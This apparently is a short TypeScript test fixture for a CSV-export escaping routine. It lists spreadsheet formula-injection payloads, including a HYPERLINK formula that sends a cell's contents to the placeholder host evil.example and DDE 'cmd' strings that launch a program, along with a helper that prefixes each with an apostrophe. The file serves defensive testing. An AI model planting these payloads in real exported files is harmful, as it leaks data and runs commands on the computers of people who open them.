// Payloads a spreadsheet would run as formulas (OWASP's CSV-injection list, plus the ones an audit
// found live in the project's CSV output), with the text each must become in a written file.
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
] as const;

/** The cell a spreadsheet sees after reading the written (and RFC 4180-unquoted) field. */
export const neutralised = (text: string): string => `'${text}`;
